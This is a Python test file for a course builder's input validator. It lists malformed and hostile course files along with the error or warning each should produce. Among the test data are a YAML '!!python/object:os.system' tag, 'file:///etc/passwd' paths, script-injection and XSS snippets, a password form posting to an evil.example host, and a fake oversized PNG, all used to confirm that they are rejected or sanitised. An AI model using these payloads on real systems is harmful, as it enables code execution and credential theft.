"""The awkward-input catalogue: every way an author can hand us a strange course, and the answer each gets.

Three groups, documented in docs/reliability.md:

* REJECTED: the course is refused (no course model, `validate` exits 1); the message names the file and,
  where one applies, the line, and says how to fix it.
* WARNED: the course is accepted (exit 0) with a warning that names the place.
* SILENT: the course is accepted with no diagnostic at all, exactly as the untouched example course.

Every case runs through `load_course` (fast); a representative dozen also run through the installed
console script, where an author would see a traceback if anything escaped.
"""

from __future__ import annotations

import io
import os
import shutil
import socket
import stat
import struct
import subprocess
import unicodedata
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from PIL import Image

from builder.diagnostics import Severity
from builder.loader import load_course
from builder.runtime.files import ui_strings
from tests.conftest import EXAMPLE_COURSE
from tests.edits import (
    ASSETS,
    COURSE,
    COURSEBUILD,
    GLOSSARY,
    INTRO,
    JOB_AID,
    LESSON,
    PAGE,
    PAGE_ZH,
    QUIZ,
    line_of,
    replace,
    run_validate,
    source_files,
    write,
)

Edit = Callable[[Path], None]
Line = Callable[[Path], int] | int | None  # None: the problem is the whole file, no line applies


@dataclass(frozen=True)
class Case:
    name: str
    edit: Edit
    file: str = ""
    line: Line = None
    says: tuple[str, ...] = ()


def at(rel: str, fragment: str, *, last: bool = False) -> Callable[[Path], int]:
    return lambda root: line_of(root, rel, fragment, last=last)


def sub(rel: str, old: str, new: str, count: int = 1) -> Edit:
    return lambda root: replace(root, rel, old, new, count)


def put(rel: str, data: bytes | str) -> Edit:
    return lambda root: write(root, rel, data)


def add_to_page(text: str) -> Edit:
    return sub(PAGE, "- an **offer** to help.", "- an **offer** to help.\n\n" + text)


def image(reference: str) -> Edit:
    return sub(PAGE, "(assets/headset.svg)", f"({reference})")


def sparse(rel: str, head: bytes, size: int) -> Edit:
    """A file of `size` bytes written in a moment: the head, then a hole the file system fills with zeros."""
    def edit(root: Path) -> None:
        with open(root / rel, "wb") as handle:
            handle.write(head)
            handle.truncate(size)
    return edit


def symlink_asset_out(root: Path) -> None:
    outside = root.parent / "outside.svg"
    outside.write_text('<svg xmlns="http://www.w3.org/2000/svg"/>', encoding="utf-8")
    os.symlink(outside, root / ASSETS / "linked.svg")
    replace(root, PAGE, "(assets/headset.svg)", "(assets/linked.svg)")


def symlink_page_out(root: Path) -> None:
    outside = root.parent / "outside.md"
    outside.write_text("# Elsewhere\n\nText from outside.\n", encoding="utf-8")
    (root / PAGE).unlink()
    os.symlink(outside, root / PAGE)


def symlink_lesson_out(root: Path) -> None:
    outside = root.parent / "outside-lesson"
    shutil.move(root / "lessons/02-closing", outside)
    os.symlink(outside, root / "lessons/02-closing")


def nested_yaml_list(root: Path) -> None:
    replace(root, LESSON, "duration: 30", "duration: 30\nx: " + "[" * 500 + "]" * 500)


def nested_yaml_block(root: Path) -> None:
    """Sixty levels of block mappings, the way a runaway indentation looks."""
    replace(root, QUIZ, "    value: 10\n", "    value:\n" + "".join("      " + "  " * d + "k:\n" for d in range(60)))


def empty_course(root: Path) -> None:
    for child in root.iterdir():
        if child.is_dir():
            shutil.rmtree(child)
        else:
            child.unlink()


def no_correct_choice(root: Path) -> None:
    replace(root, QUIZ, "        correct: true\n", "")


def each_source(change: Callable[[bytes], bytes]) -> Edit:
    def edit(root: Path) -> None:
        for path in source_files(root):
            path.write_bytes(change(path.read_bytes()))
    return edit


def unusual_asset_name(root: Path) -> None:
    (root / ASSETS / "headset.svg").rename(root / ASSETS / "耳機 Kopfhörer é.svg")
    for page in (PAGE, PAGE_ZH):
        replace(root, page, "(assets/headset.svg)", "(<assets/耳機 Kopfhörer é.svg>)")


def unusual_lesson_folder(root: Path) -> None:
    (root / "lessons/02-closing").rename(root / "lessons/02 結束 Schluss")
    replace(root, COURSE, "  - 02-closing", "  - 02 結束 Schluss")


def png(width: int = 8, height: int = 6) -> bytes:
    """A real PNG made by Pillow."""
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), "white").save(buffer, format="PNG")
    return buffer.getvalue()


def png_header(width: int, height: int) -> bytes:
    """A PNG that claims `width` x `height` pixels in a correct header, with one tiny data chunk: what a
    decompression bomb looks like before it is expanded (made in a moment, unlike a real one)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64))
            + chunk(b"IEND", b""))


def jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 6), "white").save(buffer, format="JPEG")
    return buffer.getvalue()


def picture(name: str, data: bytes) -> Edit:
    """Put an image file in the lesson's assets and show it on the page instead of the headset."""
    def edit(root: Path) -> None:
        write(root, f"{ASSETS}/{name}", data)
        replace(root, PAGE, "(assets/headset.svg)", f"(<assets/{name}>)")
    return edit


def dangling_quiz(root: Path) -> None:
    (root / QUIZ).unlink()
    os.symlink("quiz-draft.yaml", root / QUIZ)


def nfd_asset_nfc_reference(root: Path) -> None:
    """macOS writes file names decomposed (NFD); the page refers to the name composed (NFC)."""
    decomposed = unicodedata.normalize("NFD", "café.svg")
    (root / ASSETS / "headset.svg").rename(root / ASSETS / decomposed)
    for page in (PAGE, PAGE_ZH):
        replace(root, page, "(assets/headset.svg)", "(<assets/" + unicodedata.normalize("NFC", "café.svg") + ">)")


def nfc_and_nfd_twins(root: Path) -> None:
    shutil.copy(root / ASSETS / "headset.svg", root / ASSETS / unicodedata.normalize("NFC", "café.svg"))
    shutil.copy(root / ASSETS / "headset.svg", root / ASSETS / unicodedata.normalize("NFD", "café.svg"))
    replace(root, PAGE, "(assets/headset.svg)", "(<assets/" + unicodedata.normalize("NFC", "café.svg") + ">)")


def case_only_image(root: Path) -> None:
    replace(root, PAGE_ZH, "(assets/headset.svg)", "(assets/Headset.svg)")


def case_only_quiz(root: Path) -> None:
    (root / QUIZ).rename(root / "lessons/01-greeting/Quiz.yaml")


def case_only_lesson_folder(root: Path) -> None:
    (root / "lessons/02-closing").rename(root / "lessons/02-Closing")


def activity_run_twice(root: Path) -> None:
    replace(root, LESSON, "  - activity: greet-pairs", "  - activity: greet-pairs\n  - activity: greet-pairs")


def activity_run_twice_and_counted(root: Path) -> None:
    activity_run_twice(root)
    replace(root, LESSON, "duration: 30", "duration: 45")


def unusual_page_name(root: Path) -> None:
    for lang in ("en", "zh-Hant"):
        pages = root / "lessons/02-closing/pages"
        (pages / f"01-close.{lang}.md").rename(pages / f"007-close.{lang}.md")


REJECTED = [
    # --- syntax errors, one per kind of source file
    Case("yaml syntax: course.yaml", sub(COURSE, "version: 1.2.0", "version: [1.2.0"), COURSE, None,
         ("YAML syntax error",)),
    Case("yaml syntax: lesson.yaml", sub(LESSON, "duration: 30", "duration: 30\n  oops: x"), LESSON,
         at(LESSON, "oops"), ("YAML syntax error",)),
    Case("yaml syntax: quiz.yaml", sub(QUIZ, "type: single", "type: single: double"), QUIZ,
         at(QUIZ, "single: double"), ("YAML syntax error", "quotes")),
    Case("yaml syntax: glossary.yaml", sub(GLOSSARY, "  - id: term-hold", "  - id: term-hold\n  x: ["), GLOSSARY,
         at(GLOSSARY, "  x: ["), ("YAML syntax error",)),
    Case("yaml syntax: unclosed quote, at the line it opens", sub(QUIZ, 'en: "Hello?"', 'en: "Hello?'), QUIZ,
         at(QUIZ, 'en: "Hello?'), ("the quote \" opened on this line is",)),
    Case("yaml syntax: tab indentation", sub(LESSON, "duration: 30", "duration: 30\n\tx: 1"), LESSON,
         at(LESSON, "\tx: 1"), ("tab", "spaces")),
    Case("yaml syntax: tab indenting a nested key", sub(LESSON, "  en: Opening the call", "\ten: Opening the call"),
         LESSON, at(LESSON, "\ten: Opening"), ("indented with a tab", "spaces, never tabs")),
    Case("yaml syntax: a NUL byte", sub(LESSON, "  en: Opening the call", "  en: Opening\0 the call"), LESSON,
         at(LESSON, "Opening\0"), ("U+0000", "NUL")),
    Case("yaml syntax: a python tag", sub(LESSON, "duration: 30", "duration: !!python/object:os.system 30"), LESSON,
         at(LESSON, "!!python"), ("tags such as '!!python/object:os.system' are not allowed",)),
    Case("yaml syntax: any explicit tag", sub(QUIZ, "    answer: false", "    answer: !!bool false"), QUIZ,
         at(QUIZ, "!!bool"), ("tags such as '!!bool' are not allowed",)),
    Case("yaml syntax: two documents", sub(GLOSSARY, "terms:", "---\nterms: []\n---\nterms:"), GLOSSARY,
         at(GLOSSARY, "---", last=True), ("more than one YAML document",)),
    Case("yaml syntax: anchors and aliases", sub(LESSON, "materials:\n  - en: Headset", "materials:\n  - &h en: Headset"),
         LESSON, at(LESSON, "&h"), ("anchors and aliases",)),
    Case("markdown: page without its title", put(PAGE, "Some text without a heading.\n"), PAGE, 1,
         ("does not start with its title", "# The page title")),
    Case("markdown: job aid without its title", put(JOB_AID, "1. Company\n2. Name\n"), JOB_AID, 1,
         ("does not start with its title",)),
    Case("markdown: introduction without its title", put(INTRO, "Welcome, without a heading.\n"), INTRO, 1,
         ("does not start with its title",)),
    Case("markdown: title but no text", put(PAGE, "# Only a title\n"), PAGE, 1, ("has a title but no text",)),
    Case("markdown: empty page", put(PAGE, "\n  \n"), PAGE, 1, ("this page is empty",)),
    # --- wrong types
    Case("wrong type: word for a number", sub(LESSON, "duration: 30", "duration: thirty"), LESSON,
         at(LESSON, "duration:"), ("duration must be a whole number",)),
    Case("wrong type: list for a text", sub(LESSON, "  en: Opening the call", "  en: [Opening, the call]"), LESSON,
         at(LESSON, "[Opening"), ("title",)),
    Case("wrong type: word for a yes/no", sub(QUIZ, "case_sensitive: false", "case_sensitive: maybe"), QUIZ,
         at(QUIZ, "case_sensitive:"), ("case_sensitive",)),
    Case("wrong type: text for a list", sub(COURSE, "languages: [en, zh-Hant]", "languages: en"), COURSE,
         at(COURSE, "languages:"), ("languages must be a list",)),
    Case("wrong type: number out of range", sub(QUIZ, "pass_mark: 70", "pass_mark: 170"), QUIZ,
         at(QUIZ, "pass_mark:"), ("pass_mark",)),
    Case("wrong type: value outside the allowed words", sub(LESSON, "kind: pair", "kind: pairs"), LESSON,
         at(LESSON, "kind: pairs"), ("kind must be one of", "did you mean 'pair'")),
    Case("wrong type: control character in a text", sub(LESSON, "  en: Opening the call", '  en: "Opening\\x01 call"'),
         LESSON, at(LESSON, "Opening\\x01"), ("control character U+0001",)),
    Case("wrong type: non-character in a text", sub(QUIZ, 'en: "Hello?"', 'en: "Hello\\uFFFE?"'), QUIZ,
         at(QUIZ, "Hello\\uFFFE"), ("control character U+FFFE",)),
    Case("yaml syntax: lone surrogate escape", sub(QUIZ, 'en: "Hello?"', 'en: "Hello\\ud800?"'), QUIZ,
         at(QUIZ, "Hello\\ud800"), ("YAML syntax error", "invalid Unicode")),
    # --- unknown keys
    Case("unknown key: lesson.yaml, with suggestion", sub(LESSON, "duration: 30", "durations: 30"), LESSON,
         at(LESSON, "durations:"), ("unknown key 'durations'", "did you mean 'duration'")),
    Case("unknown key: course.yaml", sub(COURSE, "learning_time: 45", "learning_time: 45\nskin: dark"), COURSE,
         at(COURSE, "skin:"), ("unknown key 'skin'",)),
    Case("unknown key: a question", sub(QUIZ, "    value: 10", "    value: 10\n    hint: {en: x, zh-Hant: y}"), QUIZ,
         at(QUIZ, "    hint:"), ("unknown key 'hint'",)),
    Case("unknown key: glossary.yaml", sub(GLOSSARY, "  - id: term-hold", "  - id: term-hold\n    plural: Holds"),
         GLOSSARY, at(GLOSSARY, "plural:"), ("unknown key 'plural'",)),
    Case("unknown key: used by another question type", sub(QUIZ, "answer: false", "answer: false\n    tolerance: 1"),
         QUIZ, at(QUIZ, "    tolerance: 1"), ("does not use 'tolerance'",)),
    # --- missing files and keys
    Case("missing: lesson folder", sub(COURSE, "  - 02-closing", "  - 02-closingg"), COURSE,
         at(COURSE, "  - 02-closingg"), ("'lessons/02-closingg' does not exist",)),
    Case("missing: quiz.yaml is a link to nothing", dangling_quiz, QUIZ, None,
         ("is a link to 'quiz-draft.yaml', which does not exist",)),
    Case("duplicate: lesson listed twice in course.yaml", sub(COURSE, "  - 02-closing", "  - 02-closing\n  - 01-greeting"),
         COURSE, at(COURSE, "  - 01-greeting", last=True), ("'01-greeting' is listed twice", "first on line")),
    Case("missing: lesson.yaml", lambda r: (r / LESSON).unlink(), LESSON, None, ("does not exist",)),
    Case("missing: image", image("assets/headphones.svg"), PAGE, at(PAGE, "headphones"),
         ("'assets/headphones.svg' does not exist",)),
    Case("missing: page translation", lambda r: (r / PAGE_ZH).unlink(), PAGE, None, ("no zh-Hant translation",)),
    Case("missing: required key", sub(LESSON, "duration: 30               # minutes in the classroom\n", ""), LESSON, 1,
         ("has no 'duration'",)),
    Case("missing: text translation", sub(LESSON, "  zh-Hant: 開場\n", ""), LESSON, at(LESSON, "title:"),
         ("title has no zh-Hant translation",)),
    # --- duplicate ids and keys
    Case("duplicate: objective id", sub(LESSON, "id: greet-tone", "id: greet-name"), LESSON,
         at(LESSON, "id: greet-name", last=True), ("the id 'greet-name' is already used",)),
    Case("duplicate: question id across lessons", sub(QUIZ, "id: greet-q-number", "id: close-q1"),
         "lessons/02-closing/quiz.yaml", at("lessons/02-closing/quiz.yaml", "id: close-q1"),
         ("the id 'close-q1' is already used",)),
    Case("duplicate: glossary term id is a lesson id", sub(GLOSSARY, "  - id: term-hold", "  - id: greeting"),
         GLOSSARY, at(GLOSSARY, "id: greeting"), ("the id 'greeting' is already used",)),
    Case("duplicate: key", sub(LESSON, "duration: 30", "duration: 30\nduration: 40"), LESSON,
         at(LESSON, "duration: 40"), ("'duration' appears twice",)),
    Case("duplicate: language", sub(COURSE, "languages: [en, zh-Hant]", "languages: [en, en, zh-Hant]"), COURSE,
         at(COURSE, "languages:"), ("'en' is listed twice",)),
    # --- broken references
    Case("reference: unknown objective", sub(QUIZ, "objective: greet-name", "objective: greet-nam"), QUIZ,
         at(QUIZ, "greet-nam"), ("objective 'greet-nam'",)),
    Case("reference: unknown activity", sub(LESSON, "- activity: greet-pairs", "- activity: greet-pair"), LESSON,
         at(LESSON, "activity: greet-pair"), ("'greet-pair', which this lesson does not have",)),
    Case("reference: assessment draws from no lesson", sub(COURSE, "closing: 2", "closin: 2"), COURSE,
         at(COURSE, "closin: 2"), ("'closin', which is not a lesson id",)),
    Case("reference: assessment draws more than the pool", sub(COURSE, "closing: 2", "closing: 9"), COURSE,
         at(COURSE, "closing: 9"), ("draws 9 questions", "only 3")),
    Case("reference: assessment draws by folder name", sub(COURSE, "    closing: 2", "    02-closing: 2"), COURSE,
         at(COURSE, "02-closing: 2"), ("'02-closing' is a lesson folder", "'closing'", "greeting (lessons/01-greeting)")),
    Case("reference: image on the internet", image("https://example.com/a.png"), PAGE, at(PAGE, "example.com"),
         ("on the internet",)),
    Case("reference: file: image", image("file:///etc/passwd"), PAGE, at(PAGE, "file:///"),
         ("'file:' scheme, which is not allowed",)),
    Case("reference: data: image", image("data:image/png;base64,iVBORw0KGgo="), PAGE, at(PAGE, "data:image"),
         ("'data:' scheme, which is not allowed",)),
    Case("reference: raw <img> with a file: src", add_to_page('<img src="file:///etc/passwd" alt="x">'), PAGE,
         at(PAGE, "file:///"), ("'file:' scheme, which is not allowed",)),
    # --- questions nobody can answer
    Case("unanswerable: single choice with no correct choice", no_correct_choice, QUIZ, at(QUIZ, "    choices:"),
         ("has 0 correct choices",)),
    Case("unanswerable: single choice with two", sub(QUIZ, "          zh-Hant: 「Acme。」",
                                                    "          zh-Hant: 「Acme。」\n        correct: true"),
         QUIZ, at(QUIZ, "    choices:"), ("has 2 correct choices",)),
    Case("unanswerable: multiple with none correct", sub(QUIZ, "        correct: true\n", "", 3), QUIZ,
         lambda r: line_of(r, QUIZ, "    choices:", last=False) + 29, ("'greet-q-multiple' has no correct choice",)),
    Case("unanswerable: true-false without answer", sub(QUIZ, "    answer: false\n", ""), QUIZ,
         at(QUIZ, "id: greet-q-tf"), ("has no 'answer'",)),
    Case("unanswerable: numeric without value", sub(QUIZ, "    value: 10\n", ""), QUIZ,
         at(QUIZ, "id: greet-q-number"), ("has no 'value'",)),
    Case("unanswerable: negative tolerance", sub(QUIZ, "tolerance: 2", "tolerance: -2"), QUIZ,
         at(QUIZ, "tolerance:"), ("negative tolerance",)),
    Case("unanswerable: fill-in answer longer than max_length", sub(QUIZ, "max_length: 20", "max_length: 4"), QUIZ,
         at(QUIZ, "answers:"), ("longer than max_length (4)",)),
    Case("unanswerable: ordering with one item", sub(QUIZ, """      - id: agent
        text: {en: Say your name, zh-Hant: 說出名字}
      - id: offer
        text: {en: Offer help, zh-Hant: 表示願意協助}
""", ""), QUIZ, at(QUIZ, "id: greet-q-order"), ("needs at least two 'items'",)),
    Case("unanswerable: matching with repeated items",
         sub(QUIZ, "right: {en: Speak slowly and calmly", "right: {en: Apologise for the wait"), QUIZ,
         at(QUIZ, "pairs:"), ("repeats the same en text",)),
    # --- not UTF-8
    Case("encoding: Latin-1 page", put(PAGE, "# Titre\n\nCaf\xe9 cr\xe8me\n".encode("latin-1")), PAGE, 3,
         ("not UTF-8", "Save As")),
    Case("encoding: UTF-16 lesson.yaml", lambda r: (r / LESSON).write_bytes(
        (r / LESSON).read_text(encoding="utf-8").encode("utf-16")), LESSON, 1, ("not UTF-8",)),
    Case("encoding: Big5 quiz.yaml", lambda r: (r / QUIZ).write_bytes(
        (r / QUIZ).read_text(encoding="utf-8").replace("「", '"').replace("」", '"').encode("big5", "replace")),
         QUIZ, None, ("not UTF-8",)),
    # --- sizes and depth
    Case("size: a 50 MB page", sparse(PAGE, b"# Big\n\n", 50 * 1024 * 1024), PAGE, None,
         ("52,428,800 bytes", "the limit is")),
    Case("size: a 50 MB quiz.yaml", sparse(QUIZ, b"questions:\n", 50 * 1024 * 1024), QUIZ, None, ("the limit is",)),
    Case("size: a 50 MB image", sparse(f"{ASSETS}/headset.svg", b"<svg/>", 50 * 1024 * 1024), PAGE,
         at(PAGE, "headset.svg"), ("52,428,800 bytes", "the limit is")),
    Case("depth: 500 nested flow lists", nested_yaml_list, LESSON, at(LESSON, "x: [["), ("nested more than",)),
    Case("depth: 60 nested block lists", nested_yaml_block, QUIZ, None, ("nested more than",)),
    # --- paths that leave the course
    Case("path: absolute image path", image("/etc/passwd.png"), PAGE, at(PAGE, "passwd"), ("absolute",)),
    Case("path: Windows absolute path", image("/C:/images/a.png"), PAGE, at(PAGE, "C:/"), ("absolute",)),
    Case("missing: image in raw HTML", add_to_page('<img src="assets/nothere.png" alt="A">'), PAGE,
         at(PAGE, "nothere"), ("'assets/nothere.png' does not exist",)),
    Case("path: backslashes", image("assets\\headset.svg"), PAGE, at(PAGE, "assets\\"), ("forward slashes",)),
    Case("path: .. in an image path", image("../02-closing/x.png"), PAGE, at(PAGE, "02-closing"), ("'..'",)),
    Case("path: image name differing only by letter case", case_only_image, PAGE_ZH, at(PAGE_ZH, "Headset.svg"),
         ("'lessons/01-greeting/assets/headset.svg' exists, but its name differs in letter case",)),
    Case("path: quiz.yaml named with a capital", case_only_quiz, QUIZ, None,
         ("'lessons/01-greeting/Quiz.yaml' exists, but its name differs in letter case", "rename 'Quiz.yaml'")),
    Case("path: lesson folder differing only by letter case", case_only_lesson_folder, COURSE,
         at(COURSE, "  - 02-closing"), ("'lessons/02-Closing' exists, but its name differs in letter case",
                                        "write '02-Closing' here")),
    Case("path: two image names differing only in Unicode form", nfc_and_nfd_twins, PAGE, at(PAGE, "café"),
         ("the same name written in two Unicode forms",)),
    Case("path: .. in a lesson folder", sub(COURSE, "  - 02-closing", "  - ../02-closing"), COURSE,
         at(COURSE, "../02-closing"), ("'../02-closing' is not in the right form",)),
    Case("symlink: image out of the course", symlink_asset_out, PAGE, at(PAGE, "linked.svg"),
         ("outside the course folder",)),
    Case("symlink: page out of the course", symlink_page_out, PAGE, None, ("link to a place outside",)),
    Case("symlink: lesson folder out of the course", symlink_lesson_out, "lessons/02-closing/lesson.yaml", None,
         ("link to a place outside",)),
    # --- language tags
    Case("language: underscore", sub(COURSE, "languages: [en, zh-Hant]", "languages: [en, zh_TW]"), COURSE,
         at(COURSE, "languages:"), ("zh_TW", "BCP 47")),
    Case("language: a word", sub(COURSE, "languages: [en, zh-Hant]", "languages: [english, zh-Hant]"), COURSE,
         at(COURSE, "languages:"), ("'english'", "BCP 47")),
    Case("language: page file in a language the course lacks", put("lessons/01-greeting/pages/01-first-words.fr.md",
                                                                   "# Premiers mots\n\nBonjour.\n"),
         "lessons/01-greeting/pages/01-first-words.fr.md", None, ("'fr' in the file name is not one of",)),
    Case("language: text in a language the course lacks", sub(LESSON, "  zh-Hant: 開場\n", "  zh-Hant: 開場\n  fr: Ouverture\n"),
         LESSON, at(LESSON, "fr: Ouverture"), ("'fr', which is not a course language",)),
    # --- empty or absent course
    Case("empty: no course.yaml at all", empty_course, "", None, ("there is no course.yaml",)),
    Case("empty: course.yaml with nothing in it", put(COURSE, ""), COURSE, 1, ("the course file is empty",)),
    Case("empty: course.yaml with only comments", put(COURSE, "# to do\n"), COURSE, 1, ("the course file is empty",)),
    Case("empty: a lesson list with nothing in it", sub(COURSE, "  - 01-greeting\n  - 02-closing\n", "  []\n"),
         COURSE, at(COURSE, "lessons:"), ("lessons has 0 items", "add the missing items")),
    # --- other author slips
    Case("image without alt text", sub(PAGE, "![A headset on a desk]", "![]"), PAGE, at(PAGE, "![]"), ("no alt text",)),
    Case("image of an unsupported type", lambda r: (put(f"{ASSETS}/x.bmp", b"BM")(r), image("assets/x.bmp")(r)),
         PAGE, at(PAGE, "x.bmp"), ("not a supported image type",)),
    Case("SVG that is not well-formed", put(f"{ASSETS}/headset.svg", "<svg><g></svg>"), PAGE, at(PAGE, "headset"),
         ("not well-formed XML",)),
    Case("SVG file that holds HTML", put(f"{ASSETS}/headset.svg", "<html><body>x</body></html>"), PAGE,
         at(PAGE, "headset"), ("is not an SVG image",)),
    Case("image: a text file named .png", picture("photo.png", "Not a picture at all.\n"), PAGE, at(PAGE, "photo.png"),
         ("'assets/photo.png' is not a PNG image: the file holds text",)),
    Case("image: a JPEG named .png", picture("photo.png", jpeg()), PAGE, at(PAGE, "photo.png"),
         ("holds a JPEG image, but its name ends as a PNG file", "rename it to end in .jpg")),
    Case("image: a damaged PNG", picture("photo.png", png()[:60]), PAGE, at(PAGE, "photo.png"),
         ("damaged PNG",)),
    Case("image: 40000 x 40000 pixels", picture("huge.png", png_header(40_000, 40_000)), PAGE, at(PAGE, "huge.png"),
         ("40,000 x 40,000 pixels", "at most 10,000 pixels a side")),
    Case("image: 12000 x 100 pixels, too wide", picture("wide.png", png_header(12_000, 100)), PAGE,
         at(PAGE, "wide.png"), ("12,000 x 100 pixels",)),
    Case("image: 9000 x 9000 pixels, too many in all", picture("big.png", png_header(9_000, 9_000)), PAGE,
         at(PAGE, "big.png"), ("9,000 x 9,000 pixels", "40 megapixels")),
    Case("date: not in the calendar", sub(COURSE, "date: 2026-11-01", "date: 2026-13-45"), COURSE,
         at(COURSE, "date:"), ("'2026-13-45' is not a date in the calendar",)),
    Case("date: the 30th of February", sub(COURSE, "date: 2026-11-01", "date: 2026-02-30"), COURSE,
         at(COURSE, "date:"), ("not a date in the calendar",)),
    Case("image: raw <img> without alt text after one with the same src",
         add_to_page('Again:\n\n<p>\n<img src="assets/headset.svg">\n</p>'), PAGE, at(PAGE, '<img src'),
         ("no alt text",)),
    Case("minutes: an activity run twice counts twice", activity_run_twice, LESSON, at(LESSON, "duration:"),
         ("add up to 45 minutes", "greet-pairs is run more than once")),
    Case("fill-in answers given as one list", sub(QUIZ, "    answers:\n      en: [help, assist]\n      zh-Hant: [協助, 幫忙]",
                                                 "    answers: [help, assist]"), QUIZ, at(QUIZ, "answers: [help"),
         ("answers must be given per course language, not as one list", "answers: {en: [help, assist], zh-Hant: […]}")),
    Case("markdown: page title written with '##'", sub(PAGE, "# The first ten seconds", "## The first ten seconds"),
         PAGE, 1, ("starts with a '## ' heading", "# The first ten seconds")),
    Case("language: page file with the language in the wrong letter case",
         lambda r: (r / PAGE_ZH).rename(r / PAGE_ZH.replace("zh-Hant", "zh-hant")),
         PAGE_ZH.replace("zh-Hant", "zh-hant"), None, ("'zh-hant' in the file name", "did you mean 'zh-Hant'")),
    Case("newer format version", sub(COURSE, "format: 1", "format: 2"), COURSE, at(COURSE, "format: 2"),
         ("format 2",)),
    Case("page file badly named", put("lessons/01-greeting/pages/extra page.md", "# Extra\n\nText.\n"),
         "lessons/01-greeting/pages/extra page.md", None, ("file name does not say",)),
]

RAW_HTML = "raw HTML in the text."
UNSAFE = "Something unsafe was removed"

WARNED = [
    Case("raw HTML: <script> removed", add_to_page("<script>window.x = 1</script>"), PAGE, at(PAGE, "<script>"),
         (RAW_HTML, UNSAFE)),
    Case("raw HTML: onclick removed", add_to_page('<p onclick="steal()">Hi</p>'), PAGE, at(PAGE, "onclick"),
         (RAW_HTML, UNSAFE)),
    Case("raw HTML: javascript: link removed", add_to_page('<a href="javascript:alert(1)">x</a>'), PAGE,
         at(PAGE, "javascript:"), (RAW_HTML, UNSAFE)),
    Case("raw HTML: onmouseover removed", add_to_page('<b onmouseover="alert(1)">bold</b>'), PAGE,
         at(PAGE, "onmouseover"), (RAW_HTML, UNSAFE)),
    Case("raw HTML: <iframe> removed", add_to_page('<iframe src="https://example.com"></iframe>'), PAGE,
         at(PAGE, "<iframe"), (RAW_HTML, UNSAFE)),
    Case("raw HTML: <style> removed", add_to_page("<style>body { display: none }</style>"), PAGE,
         at(PAGE, "<style>"), (RAW_HTML, UNSAFE)),
    Case("raw HTML: a form removed", add_to_page('<form action="https://evil.example"><input name="pw"></form>'),
         PAGE, at(PAGE, "<form"), (RAW_HTML, UNSAFE)),
    Case("raw HTML: safe subset kept", add_to_page("Press <kbd>Ctrl</kbd> and <mark>listen</mark>."), PAGE,
         at(PAGE, "<kbd>"), (RAW_HTML,)),
    Case("objective that no question assesses", sub(QUIZ, "objective: greet-tone", "objective: greet-name", -1),
         LESSON, at(LESSON, "id: greet-tone"), ("no question assesses the objective 'greet-tone'",)),
    Case("lesson folder not listed in course.yaml",
         lambda r: shutil.copytree(r / "lessons/02-closing", r / "lessons/03-draft"), COURSE, at(COURSE, "lessons:"),
         ("'lessons/03-draft' is not listed",)),
    Case("page holding only headings", put(PAGE, "# The first ten seconds\n\n## Company\n\n## Name\n"), PAGE, 3,
         ("holds only headings, no text",)),
    Case("text still marked (Translate)", sub(LESSON, "  zh-Hant: 開場", "  zh-Hant: (Translate) Opening the call"),
         LESSON, at(LESSON, "(Translate)"), ("title (zh-Hant) is still marked (Translate)",)),
    Case("page still marked for translation",
         sub(PAGE_ZH, "\n\n", "\n\n> **Translate** this page into zh-Hant.\n\n", 1), PAGE_ZH,
         at(PAGE_ZH, "**Translate**"), ("still marked for translation",)),
    Case("SVG with a script, sanitised", put(f"{ASSETS}/headset.svg", '<svg xmlns="http://www.w3.org/2000/svg" '
                                                                      'onload="steal()"><script>steal()</script>'
                                                                      '<rect width="4" height="4"/></svg>'),
         PAGE, at(PAGE, "headset.svg"), ("held parts a package must not carry", "<script>", "onload")),
    Case("lesson without a quiz", lambda r: (r / "lessons/02-closing/quiz.yaml").unlink()
         or replace(r, COURSE, "    closing: 2\n", ""), "lessons/02-closing/lesson.yaml", None, ("no quiz yet",)),
    Case("course without a glossary", lambda r: (r / GLOSSARY).unlink(), COURSE, None, ("no glossary yet",)),
    # The facilitator step that shows the page in the workbook goes too: naming a page that is not there is an error.
    Case("lesson with an empty pages folder", lambda r: [p.unlink() for p in (r / "lessons/02-closing/pages").iterdir()]
         and replace(r, "lessons/02-closing/lesson.yaml", "    workbook: close\n", ""),
         "lessons/02-closing/lesson.yaml", None, ("no content pages yet",)),
    Case("lesson without a job aid", lambda r: [(r / f"lessons/02-closing/job-aid.{lang}.md").unlink()
                                                for lang in ("en", "zh-Hant")] and None,
         "lessons/02-closing/lesson.yaml", None, ("no job aid yet",)),
]

SILENT = [
    Case("byte-order mark on every file", each_source(lambda data: b"\xef\xbb\xbf" + data)),
    Case("CRLF line ends on every file", each_source(lambda data: data.replace(b"\n", b"\r\n"))),
    Case("old Mac CR line ends on every file", each_source(lambda data: data.replace(b"\n", b"\r"))),
    Case("BOM and CRLF together", each_source(lambda data: b"\xef\xbb\xbf" + data.replace(b"\n", b"\r\n"))),
    Case("no newline at the end of any file", each_source(lambda data: data.rstrip(b"\n"))),
    Case("image name with spaces and non-ASCII letters", unusual_asset_name),
    Case("lesson folder name with spaces and non-ASCII letters", unusual_lesson_folder),
    Case("page numbers with three digits", unusual_page_name),
    Case("image file named in NFD, referenced in NFC", nfd_asset_nfc_reference),
    Case("an activity run twice, with the duration counting it twice", activity_run_twice_and_counted),
    Case("real PNG and JPEG images", lambda r: (picture("photo.png", png())(r), write(r, f"{ASSETS}/photo.jpg", jpeg()),
                                                replace(r, PAGE_ZH, "(assets/headset.svg)", "(assets/photo.jpg)"))),
    Case("SVG with drawing-program metadata", put(
        f"{ASSETS}/headset.svg",
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
        'inkscape:version="1.3" data-name="Layer 1"><metadata>RDF here</metadata><!-- exported -->'
        '<rect width="4" height="4" inkscape:label="box"/></svg>')),
    Case("deeply nested Markdown quote", add_to_page("> " * 2000 + "deep")),
    Case("javascript: link in Markdown syntax is dropped by the renderer", add_to_page("[click](javascript:alert(1))")),
]

CLI_CASES = {
    "yaml syntax: lesson.yaml", "yaml syntax: glossary.yaml", "markdown: job aid without its title",
    "wrong type: control character in a text", "duplicate: question id across lessons",
    "unanswerable: numeric without value", "encoding: Latin-1 page", "size: a 50 MB page",
